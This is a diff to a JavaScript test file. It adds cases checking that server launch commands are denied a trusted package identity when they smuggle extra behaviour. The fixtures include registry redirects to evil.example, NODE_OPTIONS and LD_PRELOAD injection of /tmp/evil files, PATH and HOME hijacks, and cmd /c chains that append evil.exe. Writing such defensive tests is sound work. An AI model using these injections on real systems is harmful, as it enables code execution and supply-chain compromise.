@@ -43,3 +43,20 @@ test.each([
 test("a shell line behind cmd /c stays whole", () => {
   expect(launchedServer("cmd", ["/c", "npx thing & calc"]).command).toBe("cmd");
 });
+
+test.each([
+  ["env", ["npm_config_registry=http://evil.example", "npx", "-y", "@acme/notes"]],
+  ["env", ["LANG=C", "NPM_CONFIG_REGISTRY=http://evil.example", "npx", "-y", "@acme/notes"]],
+  ["env", ["NODE_OPTIONS=--import=/tmp/evil.mjs", "npx", "-y", "@acme/notes"]],
+  ["env", ["PATH=/tmp/evil", "npx", "-y", "@acme/notes"]],
+  ["env", ["LD_PRELOAD=/tmp/evil.so", "npx", "-y", "@acme/notes"]],
+  ["env", ["UV_INDEX_URL=http://evil.example", "uvx", "acme-notes"]],
+  ["env", ["HOME=/tmp/evil", "npx", "-y", "@acme/notes"]],
+  ["cmd", ["/c", "npx", "-y", "@acme/notes", "&", "evil.exe"]],
+  ["cmd", ["/c", "npx", "-y", "@acme/notes&evil.exe"]],
+  ["cmd", ["/c", "npx", "-y", "@acme/notes", "|evil.exe"]],
+])("attack: %s %j starts something else as well, so it borrows no identity", (command, args) => {
+  const server = launchedServer(command, args);
+  expect(server.package).toBeUndefined();
+  expect(server.command).toBe(command);
+});
